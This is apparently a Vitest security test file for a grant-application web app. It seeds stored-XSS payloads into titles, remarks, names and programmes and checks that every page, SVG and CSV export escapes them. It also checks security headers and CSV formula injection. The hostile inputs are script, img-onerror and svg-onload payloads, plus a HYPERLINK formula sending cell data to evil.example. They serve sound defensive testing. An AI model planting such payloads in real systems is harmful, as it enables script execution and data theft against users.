import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createUser } from '../../src/accounts/user-admin.ts';
import { createMunicipality } from '../../src/municipalities/municipality-admin.ts';
import { CURRENT_PROGRAMME, api, completeForm, startApp, type TestApp } from './http-helpers.ts';
import { allowedByTable, bearerFor, concreteUrl, everyone, prepareRequest, type SampleIds } from './security-helpers.ts';

/**
 * Stored scripts (issue 6): an application titled `<script>alert(1)</script>`, with such remarks,
 * such a rejection reason, a reviewer with such a name and a programme with such a title, is shown
 * escaped on every page, in every SVG and in every export. Every GET route is read for every role
 * that may open it, as a full page and as an htmx fragment.
 */

const SCRIPT = '<script>alert(1)</script>';
const IMG = '"><img src=x onerror=alert(1)>';
const SVG = "'><svg onload=alert(1)>";
const TEXTAREA = '</textarea><script>alert(2)</script>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
/** What must never reach a page as markup: the start of each injected element. */
const forbidden = ['<script>alert', '<img src=x', '<svg onload', '</textarea><script'];
/** Template values written unescaped (`<%~ … %>`) on purpose; see the test that reads the templates. */
const rawAllowed = new Set(['it.body', 'it.timeline', 'it.durations', /* src/audit/statechart.ts */ 'it.svg', /* src/http/charts/coverage.ts */ 'it.chart', /* src/http/charts/fund.ts, waiting-times.ts (issue 13) */ 'it.fundChart', 'it.waitingChart', /* src/http/charts/implementation.ts (issue 11) */ 'im.fundsChart', 'im.timeline', /* src/http/report-view.ts (issue 13) */ 'it.view.fundsChart', 'it.view.funnelChart']);

let t: TestApp;
let returned: number;
let rejected: number;
let programme: number;
let xssUser: number;
let xssMunicipality: number;

beforeAll(async () => {
  t = await startApp({ documentRequirements: false });
  // The name opens with a formula too, for the CSV exports, where the reviewer's name starts a cell.
  const reviewer = await createUser(t.db, { login: 'xss.reviewer', name: `${FORMULA}<script>alert("reviewer")</script>`, role: 'reviewer', password: 'a long reviewer passphrase' });
  xssUser = reviewer.id;
  // A municipality so named, with an applicant of it: on its own page, in the lists, on the user's page.
  xssMunicipality = createMunicipality(t.db, { name: `${SCRIPT}${IMG}`, kind: 'settlement', population: '1000' }).id;
  await createUser(t.db, { login: 'xss.applicant', name: 'Applicant', role: 'applicant', municipalityId: xssMunicipality, password: 'a long applicant passphrase' });
  const applicant = bearerFor(t.db, 'applicant1');
  const review = bearerFor(t.db, 'xss.reviewer');
  const admin = bearerFor(t.db, 'admin1');
  const form = { ...completeForm(), title: SCRIPT, settlement: IMG, problem: TEXTAREA, description: SVG };

  const send = async (bearer: string, id: number, version: number, body: Record<string, unknown>) => {
    const response = await api(t.app, bearer, 'POST', `/api/applications/${id}/events`, { ...body, expectedVersion: version });
    expect(response.status, JSON.stringify(response.body)).toBe(200);
    return response.body.version as number;
  };
  const make = async () => {
    const created = await api(t.app, applicant, 'POST', '/api/applications', { programmeId: CURRENT_PROGRAMME, ...form });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    let version = await send(applicant, created.body.id, created.body.version, { type: 'submit' });
    version = await send(review, created.body.id, version, { type: 'start-review' });
    return { id: created.body.id as number, version };
  };
  const first = await make();
  returned = first.id;
  await send(review, first.id, first.version, { type: 'return-for-revision', remarks: [{ field: 'general', text: SCRIPT }, { field: 'title', text: IMG }, { field: 'problem', text: TEXTAREA }] });
  const second = await make();
  rejected = second.id;
  await send(review, second.id, second.version, { type: 'reject', reason: `${SCRIPT} ${SVG}` });

  const created = await api(t.app, admin, 'POST', '/api/programmes', {
    title: SCRIPT,
    year: 2031,
    region: IMG,
    timeZone: 'Europe/Samara',
    fundKopecks: 100_000_000,
    capKopecks: 1_000_000,
    minLocalShareBp: 500,
    minResidentsShareBp: 300,
  });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  programme = created.body.id;
});

/** The cells of a CSV text as a spreadsheet reads them (RFC 4180 quoting), a leading BOM dropped. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  let inQuotes = false;
  const input = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < input.length; i++) {
    const c = input[i]!;
    if (inQuotes) {
      if (c === '"' && input[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') inQuotes = false;
      else cell += c;
    } else if (c === '"' && cell === '' && !quoted) {
      inQuotes = true;
      quoted = true;
    } else if (c === ',' || c === '\n' || c === '\r') {
      if (c === '\r' && input[i + 1] === '\n') i++;
      cells.push(cell);
      cell = '';
      quoted = false;
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}

afterAll(async () => {
  await t.close();
});

describe('stored scripts', () => {
  it('are on the pages, escaped (so that the walk below is not vacuous)', async () => {
    const send = await prepareRequest(t.app, t.db, 'applicant', 'GET', `/applications/${returned}`);
    const page = await send();
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(page.body).toContain('&lt;img src=x onerror=alert(1)&gt;');
    for (const pattern of forbidden) expect(page.body).not.toContain(pattern);
  });

  it('are shown escaped by every GET route, for every role that may open it, whole and as htmx fragments', async () => {
    const problems: string[] = [];
    let pages = 0;
    let csvExports = 0;
    let downloads = 0;
    const idSets: SampleIds[] = [
      { application: returned, programme, stage: 1, user: xssUser, municipality: xssMunicipality },
      { application: rejected, programme: CURRENT_PROGRAMME, stage: 6, user: xssUser },
    ];
    for (const rule of t.app.routeRules.filter((r) => r.method === 'GET')) {
      for (const ids of idSets) {
        const url = concreteUrl(rule.url, ids);
        for (const who of everyone.filter((w) => allowedByTable(rule, w))) {
          for (const htmx of [false, true]) {
            const send = await prepareRequest(t.app, t.db, who, 'GET', `${url}${url.includes('?') ? '&' : '?'}q=`, { headers: htmx ? { 'hx-request': 'true' } : {} });
            const response = await send();
            const type = String(response.headers['content-type'] ?? '');
            const where = `${who} GET ${url}${htmx ? ' (htmx)' : ''} → ${response.statusCode} ${type}`;
            if (response.statusCode >= 500) problems.push(`${where}: a server error`);
            if (response.headers['x-content-type-options'] !== 'nosniff') problems.push(`${where}: no nosniff`);
            // Personal data and tokens: no API answer may be kept by a browser or a proxy (issue 17).
            // The public portal's open data (issue 15) is the exception: what it answers with 200 is public and cacheable.
            const openData = url.startsWith('/api/public/') && response.statusCode === 200 && /^public\b/.test(String(response.headers['cache-control'] ?? ''));
            if (url.startsWith('/api/') && !openData && !/\bno-store\b/.test(String(response.headers['cache-control'] ?? ''))) problems.push(`${where}: an API answer without Cache-Control: no-store`);
            // Every download names its file twice: RFC 8187 UTF-8 for browsers, plain ASCII for the rest.
            const disposition = response.headers['content-disposition'];
            if (disposition !== undefined) {
              downloads++;
              if (!/^(attachment|inline); filename="[\x20-\x21\x23-\x5b\x5d-\x7e]+"; filename\*=UTF-8''[A-Za-z0-9!#$&+\-.^_`|~%]+$/.test(String(disposition))) problems.push(`${where}: Content-Disposition ${String(disposition)}`);
            }
            // JSON is data, not markup: a browser never renders it as a page (nosniff, application/json).
            if (type.startsWith('application/json')) continue;
            // CSV is a download for a spreadsheet, not markup: it must come as an attachment, and no cell may start a formula.
            if (type.startsWith('text/csv')) {
              if (!String(response.headers['content-disposition'] ?? '').startsWith('attachment')) problems.push(`${where}: an export not sent as an attachment`);
              for (const cell of csvCells(response.body)) if (/^[=+\-@\t\r]/.test(cell)) problems.push(`${where}: a cell starts a formula: ${cell.slice(0, 60)}`);
              csvExports++;
              continue;
            }
            pages++;
            for (const pattern of forbidden) if (response.body.includes(pattern)) problems.push(`${where}: contains ${pattern}`);
            if (/href\s*=\s*["']?\s*javascript:/i.test(response.body)) problems.push(`${where}: a javascript: link`);
          }
        }
      }
    }
    expect(problems).toEqual([]);
    expect(pages).toBeGreaterThan(50);
    if (t.app.routeRules.some((r) => r.url.endsWith('.csv'))) expect(csvExports).toBeGreaterThan(0);
    expect(downloads, 'downloads with a Content-Disposition').toBeGreaterThan(0);
  });

  it('never reach a template unescaped: no template writes a value raw but the layout body and included partials', () => {
    const views = fileURLToPath(new URL('../../views/', import.meta.url));
    const raw: string[] = [];
    for (const file of readdirSync(views, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.eta'))) {
      const text = readFileSync(join(views, file), 'utf8');
      for (const match of text.matchAll(/<%~\s*([^%]+?)\s*%>/g)) {
        const expression = match[1]!;
        // `include(…)` renders another escaping template and `it.body` is the page the layout wraps; the
        // others are SVG built by src/http/charts and src/audit/statechart.ts, where every text goes through escapeXml. A new raw
        // output must be added here on purpose, after its producer is shown to escape.
        if (/^include\(/.test(expression) || rawAllowed.has(expression)) continue;
        raw.push(`${file}: <%~ ${expression} %>`);
      }
    }
    expect(raw).toEqual([]);
  });
});
